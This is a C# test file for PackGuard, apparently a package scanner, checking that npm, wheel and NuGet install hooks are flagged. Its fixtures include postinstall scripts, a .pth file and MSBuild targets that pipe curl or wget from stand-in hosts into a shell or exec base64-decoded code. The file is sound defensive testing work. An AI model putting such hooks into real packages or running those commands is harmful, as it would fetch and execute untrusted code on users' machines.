using PackGuard.Findings;
using PackGuard.Inspectors.Install;
using PackGuard.Tests.Scanning;
using PackGuard.Tests.Support;

namespace PackGuard.Tests.Inspectors.Install;

/// <summary>The acceptance cases: real artifact formats (tarball, wheel zip, nupkg zip) built here and scanned as the CLI does.</summary>
public sealed class InstallAcceptanceTests
{
    private const string Nuspec = """<?xml version="1.0"?><package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd"><metadata><id>Acme.Build</id><version>2.0.0</version><authors>acme</authors><license type="expression">MIT</license></metadata></package>""";

    [Fact]
    public void An_npm_postinstall_that_downloads_and_runs_a_script_is_high_with_the_excerpt_and_line()
    {
        var result = ScanFixture.ScanBytes(TestArchive.NpmTarball(
            TestFile.Text("package.json", "{\n  \"name\": \"acme-http\",\n  \"version\": \"1.4.1\",\n  \"license\": \"MIT\",\n  \"scripts\": {\n    \"postinstall\": \"node scripts/setup.js\"\n  }\n}\n"),
            TestFile.Text("scripts/setup.js", "const { execSync } = require('child_process');\n\n// fetch the helper\nexecSync('curl -fsSL https://cdn.acme.example/helper.sh | bash', { stdio: 'ignore' });\n"),
            TestFile.Text("index.js", "module.exports = 1;\n")), "acme-http-1.4.1.tgz");

        var finding = result.Single(InstallRules.DownloadsAndRuns);
        finding.Severity.ShouldBe(Severity.High);
        finding.Location.Path.ShouldBe("package/scripts/setup.js");
        finding.Location.Line.ShouldBe(4);
        finding.Properties["excerpt"]!.GetValue<string>().ShouldContain("curl -fsSL https://cdn.acme.example/helper.sh | bash");
        finding.Message.ShouldContain("which the postinstall script runs (`node scripts/setup.js`)");
        finding.Message.ShouldContain("(line 4)");
        var presence = result.Single(InstallRules.NpmScript);
        presence.Severity.ShouldBe(Severity.Info);
        presence.Location.ShouldBe(new FindingLocation("package/package.json", 6));
        presence.Properties["files"]!.AsArray().Select(f => f!.GetValue<string>()).ShouldBe(["package/scripts/setup.js"]);
        result.InstallHooks.ShouldHaveSingleItem().Name.ShouldBe("postinstall");
    }

    [Fact]
    public void A_manifest_without_install_scripts_reports_nothing_for_later_scripts_and_an_undecodable_script_name_is_no_crash()
    {
        // package.json first and no install script: the script after it runs at no install (and is not even read).
        var quiet = ScanFixture.ScanBytes(TestArchive.NpmTarball(
            TestFile.Text("package.json", """{"name":"acme","version":"1.0.0","scripts":{"test":"jest"}}"""),
            TestFile.Text("lib/run.js", "require('child_process').execSync('curl -s https://x.example/i.sh | sh');\n")), "acme.tgz");
        // A script name with a lone surrogate escape does not decode; the manifest check must not throw.
        var odd = ScanFixture.ScanBytes(TestArchive.NpmTarball(
            TestFile.Text("package.json", """{"name":"acme","version":"1.0.0","scripts":{"\ud800":"x"}}"""),
            TestFile.Text("lib/run.js", "module.exports = 1;\n")), "acme.tgz");

        quiet.InstallHooks.ShouldBeEmpty();
        quiet.Findings.ShouldNotContain(f => f.RuleId.StartsWith("install/", StringComparison.Ordinal));
        odd.Findings.ShouldNotContain(f => f.RuleId.StartsWith("install/", StringComparison.Ordinal));
    }

    [Fact]
    public void A_postinstall_command_written_in_package_json_is_located_at_its_line()
    {
        var result = ScanFixture.ScanBytes(TestArchive.NpmTarball(
            TestFile.Text("package.json", "{\n  \"name\": \"acme\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n    \"test\": \"jest\",\n    \"postinstall\": \"wget -qO- http://203.0.113.9/i | sh\"\n  }\n}\n")), "acme.tgz");

        var finding = result.Single(InstallRules.DownloadsAndRuns);
        finding.Location.Path.ShouldBe("package/package.json");
        finding.Location.Line.ShouldBe(6);
        finding.Properties["excerpt"]!.GetValue<string>().ShouldBe("wget -qO- http://203.0.113.9/i | sh");
    }

    [Fact]
    public void A_wheel_with_an_executing_pth_file_is_reported_and_its_payload_is_high()
    {
        var wheel = TestArchive.Zip([
            TestFile.Text("acme/__init__.py", "VERSION = '1.0'\n"),
            TestFile.Text("acme-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: acme\nVersion: 1.0\nLicense: MIT\n"),
            TestFile.Text("acme-1.0.dist-info/RECORD", "acme/__init__.py,,\n"),
            TestFile.Text("acme_init.pth", "./acme/vendor\nimport os, base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n"),
        ]);

        var result = ScanFixture.ScanBytes(wheel, "acme-1.0-py3-none-any.whl");

        var pth = result.Single(InstallRules.PthFile);
        pth.Severity.ShouldBe(Severity.Low);
        pth.Message.ShouldContain("`import os, base64; exec(base64.b64decode(");
        var payload = result.Single(InstallRules.DecodesAndRuns);
        payload.Severity.ShouldBe(Severity.High);
        payload.Location.ShouldBe(new FindingLocation("acme_init.pth", 2, payload.Location.Column));
    }

    [Fact]
    public void A_setuptools_style_pth_is_low_and_nothing_more()
    {
        var wheel = TestArchive.Zip([
            TestFile.Text("setuptools-80.0.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: setuptools\nVersion: 80.0.0\nLicense: MIT\n"),
            TestFile.Text("distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"),
        ]);

        var result = ScanFixture.ScanBytes(wheel, "setuptools-80.0.0-py3-none-any.whl");

        result.Findings.Where(f => f.RuleId.StartsWith("install/", StringComparison.Ordinal)).Select(f => (f.RuleId, f.Severity))
            .ShouldBe([(InstallRules.PthFile, Severity.Low)]);
    }

    [Fact]
    public void A_nuget_targets_file_that_execs_curl_into_sh_is_high_and_a_properties_only_one_is_silent()
    {
        var hostile = TestArchive.Zip([
            TestFile.Text("Acme.Build.nuspec", Nuspec),
            TestFile.Text("build/Acme.Build.targets", "<Project>\n  <Target Name=\"AcmeInit\" BeforeTargets=\"Build\">\n    <Exec Command=\"curl -s https://x.example/init.sh | sh\" />\n  </Target>\n</Project>\n"),
            TestFile.Text("lib/net8.0/Acme.Build.dll", "MZ"),
        ]);
        var harmless = TestArchive.Zip([
            TestFile.Text("Acme.Build.nuspec", Nuspec),
            TestFile.Text("build/Acme.Build.targets", "<Project>\n  <PropertyGroup>\n    <AcmeEnabled Condition=\"'$(AcmeEnabled)' == ''\">true</AcmeEnabled>\n  </PropertyGroup>\n  <ItemGroup>\n    <None Include=\"$(MSBuildThisFileDirectory)acme.json\" />\n  </ItemGroup>\n</Project>\n"),
        ]);

        var bad = ScanFixture.ScanBytes(hostile, "acme.build.2.0.0.nupkg");
        var good = ScanFixture.ScanBytes(harmless, "acme.build.2.0.0.nupkg");

        var finding = bad.Single(InstallRules.DownloadsAndRuns);
        finding.Severity.ShouldBe(Severity.High);
        finding.Location.Path.ShouldBe("build/Acme.Build.targets");
        finding.Location.Line.ShouldBe(3);
        finding.Properties["excerpt"]!.GetValue<string>().ShouldBe("curl -s https://x.example/init.sh | sh");
        bad.Single(InstallRules.MsBuildTask).Severity.ShouldBe(Severity.Info);
        good.Findings.ShouldNotContain(f => f.RuleId.StartsWith("install/", StringComparison.Ordinal));
        good.InstallHooks.ShouldBeEmpty();
    }

    [Fact]
    public void An_entity_encoded_pipe_in_a_targets_file_is_still_read()
    {
        var result = ScanFixture.ScanBytes(TestArchive.Zip([
            TestFile.Text("Acme.Build.nuspec", Nuspec),
            TestFile.Text("buildTransitive/Acme.Build.props", "<Project><PropertyGroup><Boot>wget -qO- https://x.example/b &#124; bash</Boot></PropertyGroup><Target Name=\"B\"><Exec Command=\"$(Boot)\" /></Target></Project>"),
        ]), "acme.nupkg");

        result.Single(InstallRules.DownloadsAndRuns).Properties["excerpt"]!.GetValue<string>().ShouldBe("wget -qO- https://x.example/b | bash");
    }

    [Fact]
    public void Scanning_is_not_upset_by_malformed_build_files()
    {
        var result = ScanFixture.ScanBytes(TestArchive.Zip([
            TestFile.Text("Acme.Build.nuspec", Nuspec),
            TestFile.Text("build/Acme.Build.targets", "<Project><Target><Exec Command=\"curl https://x.example/a | sh\"></Project"),
            TestFile.Text("build/Other.targets", "<!DOCTYPE x [<!ENTITY a \"aaaa\">]><Project>&a;</Project>"),
        ]), "acme.nupkg");

        result.Single(InstallRules.DownloadsAndRuns).Location.Path.ShouldBe("build/Acme.Build.targets");
    }
}
